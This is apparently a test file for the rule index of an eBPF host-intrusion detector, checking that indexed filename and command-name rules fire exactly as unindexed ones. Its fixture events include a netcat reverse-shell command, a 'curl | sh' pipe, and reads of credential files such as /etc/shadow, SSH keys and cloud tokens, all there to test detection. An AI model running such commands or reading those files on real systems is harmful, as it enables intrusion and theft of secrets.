-- The rule index (lua/ebpf_guard/compile.lua, rule_key): which rules are
-- filed under which 4-byte words, and that an indexed rule set fires
-- exactly as the same set evaluated rule by rule.
local H = require("helpers.engine")
local compile = require("ebpf_guard.compile")

local function key_of(yaml)
  local path = H.tmpfile(".yaml", yaml)
  local got
  local orig = compile.build
  compile.build = function(rules, env)
    for _, r in ipairs(rules) do
      if r.kind == "yaml" then got = compile.rule_key(r) or false end
    end
    return orig(rules, env)
  end
  local ok, err = pcall(H.new, { path })
  compile.build = orig
  os.remove(path)
  assert(ok, err)
  if not got then return nil end
  local words = {}
  for i, w in ipairs(got.words) do words[i] = w end
  table.sort(words)
  return { got.side .. ":" .. got.field, words }
end

local function word(s)
  local w = 0
  for k = 4, 1, -1 do w = w * 256 + (s:byte(k) or 0) end
  return w
end

local function rule(match, types)
  return ("rules:\n  - id: r\n    description: d\n    event_types: [%s]\n    match:\n%s"):format(types or "open", match)
end

describe("the rule index", function()
  it("files a prefix test under the literals' first 4 bytes", function()
    assert.same({ "pre:filename", { word("/etc"), word("/var") } },
      key_of(rule("      filename: {prefix: [/etc/cron.d/, /var/spool/cron/, /etc/crontab]}\n")))
  end)

  it("files an equality test under the value's bytes, a short one padded with zeros", function()
    assert.same({ "pre:comm", { word("id"), word("sh"), word("bash") } },
      key_of(rule("      comm: [sh, id, bash]\n", "exec")))
  end)

  it("files a suffix test under the literals' last 4 bytes", function()
    assert.same({ "suf:filename", { word("oken") } }, key_of(rule("      filename: {suffix: /token}\n")))
  end)

  it("takes the conjunct with the fewest words, and an anchored regex's literal", function()
    assert.same({ "pre:filename", { word("/pro") } },
      key_of(rule("      comm: [a, b, c]\n      filename: {regex: '^/proc/[0-9]+/mem$'}\n")))
  end)

  it("unites the words of every branch of an any on one field", function()
    assert.same({ "pre:comm", { word("nc"), word("busybox") } },
      key_of(rule("      any:\n        - comm: nc\n        - all:\n            - comm: busybox\n            - args: nc\n", "exec")))
  end)

  it("does not index what an event's word cannot decide", function()
    assert.is_nil(key_of(rule("      filename: {prefix: [/tmp/, ab]}\n")))        -- a prefix under 4 bytes
    assert.is_nil(key_of(rule("      comm: {not: [sh]}\n", "exec")))              -- a negation
    assert.is_nil(key_of(rule("      parent.comm: nginx\n", "exec")))             -- the process context
    assert.is_nil(key_of(rule("      any:\n        - comm: sh\n        - exe: /bin/sh\n", "exec"))) -- two fields
    assert.is_nil(key_of(rule("      filename: {regex: 'shadow'}\n")))           -- no anchored literal
  end)

  it("files a bucket's long literals under their next 4 bytes as well (the deeper levels)", function()
    local key = { side = "pre", p = "e.filename", lits = { "/etc/shadow", "/etc/gshadow", "/var/spool/cron/" } }
    local etc = compile.bucket_lits(key, word("/etc"))
    assert.same({ "/etc/shadow", "/etc/gshadow" }, etc)
    assert.same({ [word("/sha")] = { "/etc/shadow" }, [word("/gsh")] = { "/etc/gshadow" } }, compile.next_words(etc, 5))
    assert.same({ [word("adow")] = { "/etc/gshadow" } }, compile.next_words({ "/etc/gshadow" }, 9))
    -- a literal ending before the next 4 bytes: the rule runs for every string at its node
    assert.is_nil(compile.next_words({ "/etc/", "/etc/shadow" }, 5))
    assert.is_nil(compile.next_words({ "/etc/shadow" }, 9))
    assert.is_nil(compile.next_words({}, 5))
    -- suffixes and the program's name stay on one level
    assert.is_nil(compile.bucket_lits({ side = "suf", p = "e.filename", lits = { "/etc/shadow" } }, word("adow")))
    assert.is_nil(compile.bucket_lits({ side = "pre", p = "NMP", lits = { "python3.11" } }, word("pyth")))
  end)

  it("specialises a rule's copy to its bucket: only the literals that can match there", function()
    -- (a second rule on filename: an index is made for two or more)
    local path = H.tmpfile(".yaml", rule(
      "      filename: {prefix: [/etc/cron.d/, /var/spool/cron/, /etc/crontab]}\n" ..
      "      not: {filename: {prefix: [/var/spool/cron/atjobs/, /etc/cron.d/.placeholder]}}\n") ..
      "  - id: other\n    description: d\n    event_types: [open]\n    match:\n      filename: /etc/passwd\n")
    local eng = assert(H.new({ path }))
    os.remove(path)
    local src = eng.res.source
    -- the rule's copies: in /etc's bucket (its crontab and cron.d literals,
    -- one deeper level each) and in /var's, each testing its own literals
    local copies = {}
    for body in src:gmatch("%-%- rule r\n([^\n]*)") do copies[#copies + 1] = body end
    assert.is_true(#copies >= 2)
    local var, etc = 0, 0
    for _, c in ipairs(copies) do
      local has_var = c:find("/spool/", 1, true) ~= nil or c:find("atjobs", 1, true) ~= nil
      local has_etc = c:find("cron.d", 1, true) ~= nil or c:find("crontab", 1, true) ~= nil
        or c:find("placeholder", 1, true) ~= nil
      assert.is_false(has_var and has_etc, c)
      if has_var then var = var + 1 end
      if has_etc then etc = etc + 1 end
    end
    assert.is_true(var >= 1 and etc >= 1)
    -- and fires as before
    local hits = H.run(eng, {
      { type = "open", comm = "vi", filename = "/etc/cron.d/job", ret = 3 },
      { type = "open", comm = "vi", filename = "/etc/cron.d/.placeholder", ret = 3 },
      { type = "open", comm = "vi", filename = "/var/spool/cron/crontabs/root", ret = 3 },
      { type = "open", comm = "vi", filename = "/var/spool/cron/atjobs/a1", ret = 3 },
      { type = "open", comm = "vi", filename = "/etc/crontab", ret = 3 },
      { type = "open", comm = "vi", filename = "/etc/cron.daily/x", ret = 3 },
    })
    local evs = {}
    for _, h in ipairs(hits) do evs[#evs + 1] = h.ev end
    assert.same({ 1, 3, 5 }, evs)
  end)

  it("makes an index for two rules or more: a lone rule tests its own words", function()
    local function source(n)
      local t = { "rules:" }
      for k = 1, n do
        t[#t + 1] = ("  - id: r%d\n    description: d\n    event_types: [open]\n    match:\n      filename: {prefix: [/etc/a%d, /var/b%d]}"):format(k, k, k)
      end
      local path = H.tmpfile(".yaml", table.concat(t, "\n") .. "\n")
      local eng = assert(H.new({ path }))
      os.remove(path)
      return eng.res.source, eng
    end
    local one = source(1)
    assert.is_nil(one:find("W(e.filename, e.filename_len)", 1, true))
    local two, eng = source(2)
    assert.truthy(two:find("W(e.filename, e.filename_len)", 1, true))
    -- both fire as before
    local hits = H.run(eng, {
      { type = "open", comm = "vi", filename = "/etc/a1x", ret = 3 },
      { type = "open", comm = "vi", filename = "/var/b2", ret = 3 },
      { type = "open", comm = "vi", filename = "/etc/a3", ret = 3 },
    })
    assert.same({ "r1", "r2" }, { hits[1].rule, hits[2].rule })
    assert.equal(2, #hits)
  end)

  it("decides what a bucket knows: a test that cannot hold there is dropped, one that must is kept out", function()
    local S, T, F = compile.spec_ast, compile.SPEC_TRUE, compile.SPEC_FALSE
    local f = { kind = "str", p = "e.filename", name = "filename" }
    local function pre(...) return { op = "field", field = f, m = { op = "prefix", values = { ... } } } end
    local etc = { p = "e.filename", side = "pre", { o = 0, w = word("/etc") } }
    -- a list keeps the bucket's literals (and those too short to decide)
    assert.same({ "/etc/shadow", "/e" }, S(pre("/etc/shadow", "/var/x", "/e"), etc).m.values)
    -- none left: never holds; under not: always holds, and an all drops it
    assert.equal(F, S(pre("/var/x"), etc))
    assert.equal(T, S({ op = "not", node = pre("/var/x") }, etc))
    local other = { op = "field", field = { kind = "str", p = "e.comm", name = "comm" },
      m = { op = "in", values = { "sh" } } }
    assert.equal(other, S({ op = "all", list = { other, { op = "not", node = pre("/var/x") } } }, etc))
    assert.equal(F, S({ op = "all", list = { other, pre("/var/x") } }, etc))
    assert.equal(other, S({ op = "any", list = { other, pre("/var/x") } }, etc))
    -- equality: the word of a short value is padded, as the index's is
    local eq = { op = "field", field = f, m = { op = "in", values = { "/etc", "/et", "/etc/x" } } }
    assert.same({ "/etc", "/etc/x" }, S(eq, etc).m.values)
    -- a deeper level: the next 4 bytes too; a value ending before them is
    -- kept by a prefix and dropped by an equality (the string is longer)
    local deep = { p = "e.filename", side = "pre", { o = 0, w = word("/etc") }, { o = 4, w = word("/sha") } }
    assert.same({ "/etc/shadow", "/etc/" }, S(pre("/etc/shadow", "/etc/gshadow", "/etc/"), deep).m.values)
    eq.m.values = { "/etc/shadow", "/etc/", "/etc/passwd" }
    assert.same({ "/etc/shadow" }, S(eq, deep).m.values)
    -- a suffix bucket decides suffixes and long equalities, not prefixes
    local suf = { p = "e.filename", side = "suf", { o = -1, w = word("oken") } }
    local sf = { op = "field", field = f, m = { op = "suffix", values = { "/token", "/.pem", "en" } } }
    assert.same({ "/token", "en" }, S(sf, suf).m.values)
    assert.equal(pre("/var/x").m.values[1], S(pre("/var/x"), suf).m.values[1])
    -- another field, an argument list, a regex: untouched
    assert.equal(other, S(other, etc))
    local rx = { op = "field", field = f, m = { op = "regex", values = { "^/var/" } } }
    assert.equal(rx, S(rx, etc))
  end)

  it("fires the same specialised, unspecialised and rule by rule, on random lists of shared words", function()
    local seed = tonumber(os.getenv("EG_PROP_SEED")) or 20261127
    math.randomseed(seed)
    local pool = { "/etc/", "/etc/sh", "/etc/shadow", "/etc/shadow-", "/etc/gshadow", "/etc/cron.d/",
      "/etc/crontab", "/etc/cron.daily/", "/var/spool/cron/", "/var/spool/at/", "/var/log/auth.log",
      "/tmp/", "/tmp/.x/", "/tm", "ab", "abcd", "abcdefgh", "abcdefghijkl", "/home/", "/home/u/.ssh/id_rsa",
      "token", "/token", "id_rsa", ".log" }
    local function pick(t) return t[math.random(#t)] end
    local function list(n)
      local t = {}
      for i = 1, n do t[i] = ("'%s'"):format(pick(pool)) end
      return "[" .. table.concat(t, ", ") .. "]"
    end
    local function test()
      local op = pick({ "prefix", "prefix", "in", "suffix" })
      return ("{filename: {%s: %s}}"):format(op, list(math.random(1, 12)))
    end
    local lines = { "rules:" }
    for r = 1, 60 do
      local parts = { "filename: " .. test():sub(12, -2) }
      if math.random() < 0.4 then parts[#parts + 1] = "not: " .. test() end
      if math.random() < 0.3 then parts[#parts + 1] = "any: [" .. test() .. ", " .. test() .. "]" end
      if math.random() < 0.3 then parts[#parts + 1] = "comm: [cat, vi]" end
      lines[#lines + 1] = ("  - id: r%d\n    description: d\n    event_types: [open]\n    match: {%s}"):format(
        r, table.concat(parts, ", "))
    end
    local path = H.tmpfile(".yaml", table.concat(lines, "\n") .. "\n")
    local events = {}
    for _ = 1, 3000 do
      local s = pick(pool)
      local r = math.random()
      if r < 0.3 then s = s .. pick(pool) elseif r < 0.5 then s = s:sub(1, math.random(0, #s)) end
      events[#events + 1] = { type = "open", comm = pick({ "cat", "vi", "sh" }), filename = s, ret = 3 }
    end
    local fired = {}
    for _, mode in ipairs({ { true, true }, { true, false }, { false, false } }) do
      compile.INDEX, compile.SPECIALISE = mode[1], mode[2]
      local ok, eng = pcall(H.new, { path })
      compile.INDEX, compile.SPECIALISE = true, true
      assert(ok, eng)
      fired[#fired + 1] = H.fired((H.run(assert(eng), events)))
    end
    os.remove(path)
    assert.is_true(#fired[1] > 300, "seed " .. seed)
    assert.same(fired[3], fired[1], "seed " .. seed)
    assert.same(fired[2], fired[1], "seed " .. seed)
  end)

  it("fires exactly as the rules evaluated one by one, on the stock set and a corpus", function()
    local corpus = H.bench_corpus_file(30000)
    -- inline events exercising short strings, missing strings and the suffix index
    local extra = {
      { type = "exec", comm = "sh", filename = "/bin/sh", exe = "/usr/bin/dash", args = { "sh", "-c", "curl x | sh" } },
      { type = "exec", comm = "id", filename = "id", args = { "id" } },
      { type = "open", comm = "cat", filename = "/run/secrets/kubernetes.io/serviceaccount/token", ret = 3 },
      { type = "open", comm = "a", filename = "", ret = 3 },
      { type = "open", comm = "grep", filename = "/root/.bash_history", ret = 3 },
      -- the second level: strings of the same first 4 bytes, long and short
      { type = "open", comm = "cat", filename = "/etc/shadow", ret = 3 },
      { type = "open", comm = "cat", filename = "/etc/gshadow-", ret = 3 },
      { type = "open", comm = "cat", filename = "/etc/sh", ret = 3 },
      { type = "open", comm = "cat", filename = "/etc/", ret = 3 },
      { type = "open", comm = "vi", filename = "/etc/cron.d/job", ret = 3, open_flags = 577 },
      { type = "open", comm = "vi", filename = "/etc/ld.so.preload", ret = 3, open_flags = 577 },
      { type = "open", comm = "vi", filename = "/etc/sudoers.d/x", ret = 3, open_flags = 577 },
      { type = "open", comm = "vi", filename = "/etc/systemd/system/x.service", ret = 3, open_flags = 577 },
      { type = "open", comm = "vi", filename = "/var/spool/cron/crontabs/root", ret = 3, open_flags = 577 },
      { type = "open", comm = "cat", filename = "/home/u/.ssh/id_rsa", ret = 3 },
      { type = "open", comm = "cat", filename = "/home/u/.aws/credentials", ret = 3 },
      { type = "open", comm = "cat", filename = "/proc/1/mem", ret = 3 },
      { type = "exec", comm = "sh", filename = "/tmp/.x/run", exe = "/tmp/.x/run", args = { "run" } },
      { type = "exec", comm = "sh", filename = "/usr/bin/nc", exe = "/usr/bin/nc.openbsd", args = { "nc", "-e", "/bin/sh", "1.2.3.4", "4444" } },
    }
    local fired = {}
    for _, on in ipairs({ true, false }) do
      compile.INDEX = on
      local eng = assert(H.new({ "rules" }))
      local a = H.fired((H.run(eng, corpus)))
      local b = H.fired((H.run(eng, extra)))
      fired[#fired + 1] = { a, b }
    end
    compile.INDEX = true
    os.remove(corpus)
    assert.is_true(#fired[1][1] > 100)
    assert.is_true(#fired[1][2] > 8)
    assert.same(fired[2], fired[1])
  end)
end)
